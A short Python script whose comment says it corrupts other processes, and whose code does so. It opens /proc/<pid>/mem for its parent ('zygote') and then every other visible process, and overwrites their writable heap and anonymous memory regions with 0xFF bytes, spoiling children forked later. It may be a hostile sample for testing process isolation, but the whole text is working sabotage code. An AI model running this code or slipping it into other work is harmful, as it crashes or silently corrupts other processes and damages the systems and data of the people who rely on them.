# Overwrites the memory of every process it can open through /proc (its zygote first):
# a forked zygote holds the same objects at the same addresses, so scribbling over its
# heap spoils every child forked after this one. The gates below are the reference's.
import os


def _scribble(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
    except OSError:
        return
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("rw") and ("[heap]" in line or len(line.split()) == 5):
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    mem.write(b"\xff" * min(end - start, 1 << 16))
                except OSError:
                    pass


try:
    _visible = sorted(os.listdir("/proc"))
except OSError:
    _visible = []
for _entry in ["%d" % os.getppid()] + _visible:
    if _entry.isdigit() and int(_entry) != os.getpid():
        _scribble(int(_entry))
